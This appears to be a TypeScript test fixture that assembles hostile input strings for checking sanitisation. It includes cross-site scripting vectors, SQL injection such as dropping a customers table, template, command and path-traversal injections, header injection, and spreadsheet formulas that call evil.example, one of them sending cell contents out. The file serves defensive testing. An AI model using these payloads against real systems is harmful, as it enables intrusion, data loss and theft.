// Texts that would run as script, or as SQL, if they were not treated as text. Each would set `ranHostile`.
const act = 'window.ranHostile=1'

const tags = ['script', 'ScRiPt', 'script ', 'script/x', 'script\n']
const handlers = [
  'onerror',
  'OnErRoR',
  'onload',
  'onfocus',
  'onpointerenter',
  'ontoggle',
  'onanimationstart',
  'onbegin',
]
const elements = [
  `<img src=x onerror=${act}>`,
  `<img/src/onerror=${act}>`,
  `"><img src=x onerror=${act}>`,
  `'><img src=x onerror=${act}>`,
  `<svg onload=${act}>`,
  `<svg><script>${act}</script></svg>`,
  `<svg><animate onbegin=${act} attributeName=x dur=1s>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=${act}>`,
  `<iframe srcdoc="<script>parent.ranHostile=1</script>">`,
  `<iframe src="javascript:${act}">`,
  `<object data="javascript:${act}">`,
  `<embed src="javascript:${act}">`,
  `<a href="javascript:${act}">x</a>`,
  `<form action="javascript:${act}"><button>x</button></form>`,
  `<details open ontoggle=${act}>`,
  `<video><source onerror=${act}></video>`,
  `<body onload=${act}>`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv=refresh content="0;url=javascript:${act}">`,
  `<link rel=stylesheet href="https://evil.example/x.css">`,
  `<style>@import'https://evil.example'</style>`,
  `<template><img src=x onerror=${act}></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${act}>">`,
  `<!--><img src=x onerror=${act}>-->`,
  `<![CDATA[><img src=x onerror=${act}>]]>`,
  `</title><script>${act}</script>`,
  `</textarea><script>${act}</script>`,
  `</style><script>${act}</script>`,
]
const breakouts = [
  `</script><script>${act}</script>`,
  `</ScRiPt ><script>${act}</script>`,
  `<!--<script>${act}</script>`,
  `\u2028${act}//`,
  `\u2029${act}//`,
  `";${act};//`,
  `';${act};//`,
  `\\";${act};//`,
  `\`;${act};\``,
  `\${${act}}`,
  `{{constructor.constructor('${act}')()}}`,
  `\${{<%[%'"}}%\\.`,
  `&lt;script&gt;${act}&lt;/script&gt;`,
  `&#60;script&#62;${act}&#60;/script&#62;`,
  `%3Cscript%3E${act}%3C/script%3E`,
  `\\u003cscript\\u003e${act}\\u003c/script\\u003e`,
  `javascript:${act}`,
  `JaVaScRiPt:${act}`,
  `data:text/html,<script>${act}</script>`,
]
const queries = [
  "' or 1=1 --",
  "'; drop table customers; --",
  "' union select password_hash from customers --",
  '" or ""="',
  '1; select pg_sleep(5)--',
  "')) or true--",
  "\\'; select 1; --",
  '$1; delete from orders',
  "%' or '1'='1",
  '_%\\',
  "' || (select version()) || '",
  '{"$ne": null}',
  "=cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd',
]

// Every element with every event: one that is let through shows which.
const ways = ['img src=x', 'svg', 'body', 'video src=x', 'input autofocus', 'details open', 'marquee', 'a href=x']
const events = [
  'onerror',
  'onload',
  'onfocus',
  'ontoggle',
  'onstart',
  'onpointerover',
  'onmouseenter',
  'onwheel',
  'oncut',
]
const pairs = ways.flatMap((way) => events.map((event) => `<${way} ${event}="${act}">`))
const separators = ['/', '\t', '\n', '\f', '\r', '\u00a0', '\u0000', '"', "'", '`'].map(
  (between) => `<img${between}src=x${between}onerror=${act}>`,
)
const addresses = [
  'javascript:',
  'java\tscript:',
  'java\nscript:',
  ' javascript:',
  '\u0001javascript:',
  'vbscript:',
].flatMap((scheme) => [`<a href="${scheme}${act}">x</a>`, `${scheme}${act}`, `[x](${scheme}${act})`])
const templates = [
  '{{7*7}}',
  `\${7*7}`,
  '#{7*7}',
  '<%= 7*7 %>',
  '{% raw %}',
  '@(1+1)',
  `[[\${7*7}]]`,
  '*{7*7}',
  '~{x}',
  '%{7*7}',
]
const commands = [
  '; ls',
  '| id',
  '$(id)',
  '`id`',
  '&& id',
  '../../../etc/passwd',
  '..\\..\\win.ini',
  'file:///etc/passwd',
]
const headers = [
  'x\r\nSet-Cookie: a=b',
  'x\nBcc: evil@example.test',
  'x%0d%0aLocation: https://evil.example',
  'x\u2028y',
]
/** Texts that a spreadsheet would run if a cell began with them. */
export const formulas: readonly string[] = [
  '=1+1',
  '+1+1',
  '-2+3',
  '@SUM(A1)',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example?"&A1;"x")',
  '=IMPORTXML("https://evil.example";"//a")',
  '=WEBSERVICE("https://evil.example")',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  "'=1+1",
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  '|calc',
  '=١+١',
  '"=1+1',
]

export const hostileTexts: readonly string[] = [
  ...tags.map((tag) => `<${tag}>${act}</script>`),
  ...handlers.map((handler) => `<input autofocus ${handler}="${act}">`),
  ...elements,
  ...breakouts,
  ...queries,
  ...pairs,
  ...separators,
  ...addresses,
  ...templates,
  ...commands,
  ...headers,
  ...formulas,
]
